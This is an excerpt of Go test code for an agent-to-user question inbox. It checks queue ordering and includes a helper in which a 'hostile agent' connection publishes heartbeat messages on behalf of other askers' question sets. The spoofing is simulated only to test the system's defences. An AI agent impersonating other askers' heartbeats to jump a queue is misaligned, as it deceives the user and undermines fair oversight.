// honestFirst starts alice's inbox, checks that the set it shows first is
// honest's, answers it, and waits for the agent's set ("Jump the queue?",
// from victim): it returns the waiting time shown for it ("12s", "" for
// none) and the screen since honest's answer.
func honestFirst(t *testing.T, alice *tenant, honest *asker) (waited, after string) {
	t.Helper()
	in := alice.start(t)
	in.screen.waitFor(t, "From ", 30*time.Second)
	first := regexp.MustCompile(`From (\S+) · waiting (\S+)`).FindStringSubmatch(in.screen.String())
	if first == nil || first[1] != "honest" {
		t.Fatalf("the inbox showed first %v:\n%s", first, in.screen)
	}
	in.type_(t, "sqlite")
	honest.answered(t, 0, sqlite)
	in.screen.waitFor(t, "Jump the queue?", 10*time.Second)
	after = in.screen.String()[strings.Index(in.screen.String(), "Sent to honest"):]
	if m := regexp.MustCompile(`From victim · waiting (\S+)`).FindStringSubmatch(after); m != nil {
		waited = m[1]
	}
	return waited, after
}

// beatFor has the hostile agent h beat for the sets ids, as their askers
// would, every 300 ms until the test ends.
func beatFor(t *testing.T, h *hostileConn, ids ...string) {
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			for _, id := range ids {
				_ = h.Publish("askuser.alice.beat."+id, nil)
			}
			select {
			case <-stop:
				return
			case <-time.After(300 * time.Millisecond):
			}
		}
	})
	t.Cleanup(func() {
		close(stop)
		wg.Wait()
	})
}
